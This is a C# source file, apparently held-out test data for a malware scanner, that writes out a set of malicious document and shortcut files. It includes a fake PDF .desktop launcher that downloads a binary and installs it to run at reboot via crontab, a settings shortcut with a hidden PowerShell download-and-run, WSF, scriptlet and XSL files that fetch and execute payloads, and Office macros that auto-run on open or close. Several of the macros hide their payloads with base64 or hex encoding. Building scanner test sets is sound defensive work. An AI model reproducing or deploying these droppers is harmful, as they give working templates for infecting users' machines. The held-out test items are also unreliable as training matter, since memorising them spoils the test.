using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Small text files that a desktop opens like a program: shortcuts, a library, a settings page.</summary>
public sealed class ShortcutTexts : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Invoice 2026-11.url", Dos("""
            [InternetShortcut]
            URL=file://\\198.51.100.77@80\webdav\invoice\Invoice.pdf.exe
            IDList=
            HotKey=0
            IconIndex=13
            IconFile=C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe
            [{000214A0-0000-0000-C000-000000000046}]
            Prop3=19,9
            """)),
        ("Документи.library-ms", Dos("""
            <?xml version="1.0" encoding="UTF-8"?>
            <libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
              <name>@windows.storage.dll,-34582</name>
              <version>6</version>
              <isLibraryPinned>true</isLibraryPinned>
              <iconReference>imageres.dll,-1003</iconReference>
              <templateInfo><folderType>{7d49d726-3c21-4f05-99aa-fdc2c9474656}</folderType></templateInfo>
              <searchConnectorDescriptionList>
                <searchConnectorDescription>
                  <isDefaultSaveLocation>true</isDefaultSaveLocation>
                  <isSupported>false</isSupported>
                  <simpleLocation><url>\\203.0.113.28@SSL\DavWWWRoot\docs\</url></simpleLocation>
                </searchConnectorDescription>
              </searchConnectorDescriptionList>
            </libraryDescription>
            """)),
        ("Account_Protection.SettingContent-ms", Dos("""
            <?xml version="1.0" encoding="UTF-8"?>
            <PCSettings>
              <SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">
                <ApplicationInformation>
                  <AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>
                  <DeepLink>%windir%\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -nop -c "$f=$env:TEMP+'\acc.exe';(New-Object Net.WebClient).DownloadFile('http://192.0.2.45/acc.exe',$f);Start-Process $f"</DeepLink>
                  <Icon>%windir%\System32\control.exe</Icon>
                </ApplicationInformation>
                <SettingIdentity>
                  <PageID></PageID>
                  <HostID>{12B1697E-D3A0-4DBC-B568-CCF64A3F934D}</HostID>
                </SettingIdentity>
                <SettingInformation><Description>@shell32.dll,-4161</Description><Keywords>@shell32.dll,-4161</Keywords></SettingInformation>
              </SearchableContent>
            </PCSettings>
            """)),
        ("Tender_Notice_2026.pdf.desktop", Utf8("""
            #!/usr/bin/env xdg-open
            # This document needs a reader for portable documents.
            # Page 1 of 14
            [Desktop Entry]
            Type=Application
            Name=Tender_Notice_2026.pdf
            Comment=PDF document
            Icon=application-pdf
            Terminal=false
            NoDisplay=false
            Exec=sh -c 'd=$HOME/.config/systemd/user; mkdir -p $d; u=tenders; curl -s "https://$u-gov.example/n.pdf" -o /tmp/n.pdf && xdg-open /tmp/n.pdf & curl -s "https://$u-gov.example/files/elf.txt" | xxd -r -p > $d/dbus-monitor; chmod u+x $d/dbus-monitor; $d/dbus-monitor & (crontab -l 2>/dev/null; echo "@reboot $d/dbus-monitor") | crontab -'
            X-GNOME-Autostart-enabled=true
            """)),
    ];
}

/// <summary>Scripts in XML: script host files, scriptlets and style sheets.</summary>
public sealed class ScriptsInXml : SeventhRound
{
    private const string Inner = """var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c curl -s -o %TEMP%\\t.exe http://203.0.113.161/t.exe & %TEMP%\\t.exe",0);""";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Order_confirmation.wsf", Dos("""
            <?xml version="1.0" ?>
            <package>
            <job id="main">
            <script language="VBScript">
            <![CDATA[
            Function Target()
                Target = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%APPDATA%") & "\order.exe"
            End Function
            ]]>
            </script>
            <script language="JScript">
            <![CDATA[
            var h = new ActiveXObject("MSXML2.XMLHTTP");
            h.open("GET", "http://198.51.100.160/order.exe", false);
            h.send();
            var s = new ActiveXObject("ADODB.Stream");
            s.Type = 1; s.Open(); s.Write(h.responseBody); s.SaveToFile(Target(), 2); s.Close();
            new ActiveXObject("WScript.Shell").Run(Target(), 0, false);
            ]]>
            </script>
            </job>
            </package>
            """)),
        ("backup.sct", Dos("""
            <?XML version="1.0"?>
            <scriptlet>
            <registration description="Backup" progid="Backup.Task" version="1.00" classid="{AAAA1111-0000-0000-0000-0000FEEDACDC}">
            <script language="JScript">
            <![CDATA[
                var r = new ActiveXObject("WScript.Shell").Run("powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.33/b')", 0);
            ]]>
            </script>
            </registration>
            </scriptlet>
            """)),
        ("format.xsl", Dos("""
            <?xml version='1.0'?>
            <stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" xmlns:user="placeholder" version="1.0">
            <output method="text"/>
            <ms:script implements-prefix="user" language="JScript">
            <![CDATA[
                var r = new ActiveXObject("WScript.Shell");
                r.Run("bitsadmin /transfer x http://203.0.113.90/a.dll %TEMP%\\a.dll", 0, true);
                r.Run("regsvr32 /s %TEMP%\\a.dll", 0);
            ]]>
            </ms:script>
            </stylesheet>
            """)),
        ("Frachtbrief_3312.wsf", Utf16(Fill("""
            <?xml version="1.0" encoding="utf-16"?>
            <job id="frachtbrief">
            <!-- Versandpapiere der Spedition, erzeugt am 27.11.2026. Bitte ausdrucken und der Ware beilegen. -->
            <resource id="anlage">@@1</resource>
            <runtime><description>Frachtbrief</description></runtime>
            <object id="dom" progid="Microsoft.XMLDOM"/>
            <object id="luft" progid="ADODB.Stream"/>
            <script language="JScript"><![CDATA[
            var k = dom.createElement("k");
            k.dataType = "bin.base64";
            k.text = getResource("anlage").replace(/[^A-Za-z0-9+\/=]/g, "");
            luft.Type = 1; luft.Open(); luft.Write(k.nodeTypedValue);
            luft.Position = 0; luft.Type = 2; luft.Charset = "us-ascii";
            var satz = luft.ReadText(), f = [].constructor.constructor;
            f(satz)();
            ]]></script>
            </job>
            """, string.Join(" - ", SeventhForms.Pieces(Base64(Inner), 20))))),
    ];
}

/// <summary>Exported modules of macros that start by themselves and fetch a program.</summary>
public sealed class MacroTexts : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Module1.bas", Dos("""
            Attribute VB_Name = "Module1"
            #If VBA7 Then
            Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long
            #Else
            Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long
            #End If
            Sub AutoOpen()
                Download
            End Sub
            Sub Document_Open()
                Download
            End Sub
            Sub Download()
                Dim target As String
                target = Environ("TEMP") & "\report.exe"
                If URLDownloadToFile(0, "http://192.0.2.150/report.exe", target, 0, 0) = 0 Then
                    Shell target, vbHide
                End If
            End Sub
            """)),
        ("ThisWorkbook.vba", Dos(Fill("""
            Private Sub Workbook_Open()
                Dim Str As String
            @@1
                CreateObject("WScript.Shell").Run "powershell.exe -nop -w hidden -e " & Str, 0, False
                MsgBox "Este archivo fue creado con una versión más reciente de Excel.", vbInformation
            End Sub
            """, string.Join('\n', SeventhForms.Pieces(Encoded("IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.202/xl.ps1')"), 50).Select(piece => $"    Str = Str + \"{piece}\""))))),
        ("ThisDocument.cls", Dos("""
            VERSION 1.0 CLASS
            BEGIN
              MultiUse = -1  'True
            END
            Attribute VB_Name = "ThisDocument"
            Attribute VB_Base = "1Normal.ThisDocument"
            Attribute VB_PredeclaredId = True
            Attribute VB_Exposed = True
            Private Sub Document_Open()
                Dim anfrage As Object, strom As Object, dienst As Object, nummer As Long
                Set anfrage = CreateObject("WinHttp.WinHttpRequest.5.1")
                anfrage.Open "GET", "https://vorlagen-dienst.example/v/mitte.dll", False
                anfrage.send
                Set strom = CreateObject("ADODB.Stream")
                strom.Type = 1
                strom.Open
                strom.Write anfrage.responseBody
                strom.SaveToFile Environ$("LOCALAPPDATA") & "\mitte.dll", 2
                Set dienst = GetObject("winmgmts:\\.\root\cimv2:Win32_Process")
                dienst.Create "rundll32 " & Environ$("LOCALAPPDATA") & "\mitte.dll,Start", Null, Null, nummer
                ActiveDocument.Range.Font.Hidden = False
            End Sub
            """)),
        ("basReport.bas", Dos(Fill("""
            Attribute VB_Name = "basReport"
            Option Explicit
            ' Quarterly report: column widths, heading, footer
            Private Const Widths As String = "@@1"
            Private Const Titles As String = "@@2"
            Public Sub Auto_Close()
                Application.ScreenUpdating = False
                FormatColumns ActiveSheet
                Application.OnTime Now + TimeSerial(0, 0, 20), "basReport.Finish"
            End Sub
            Private Sub FormatColumns(ByVal sheet As Worksheet)
                Dim at As Long
                For at = 1 To 12
                    sheet.Columns(at).ColumnWidth = 9 + at Mod 4
                Next at
            End Sub
            Private Function Label(ByVal s As String) As String
                Dim v As Variant
                For Each v In Split(s, "|")
                    Label = Label & Chr$(Val("&H" & v) - 13)
                Next v
            End Function
            Public Sub Finish()
                Dim o As Object
                Set o = CreateObject(Label(Titles))
                CallByName o, StrReverse("etucexEllehS"), VbMethod, "conhost", Label(Widths), "", "", 0
            End Sub
            """, Bars("--headless cmd /c curl -so %TEMP%\\q.js https://quarter-report.example/q & wscript %TEMP%\\q.js"), Bars("Shell.Application")))),
    ];

    private static string Bars(string text) => string.Join('|', text.Select(letter => $"{letter + 13:X}"));
}
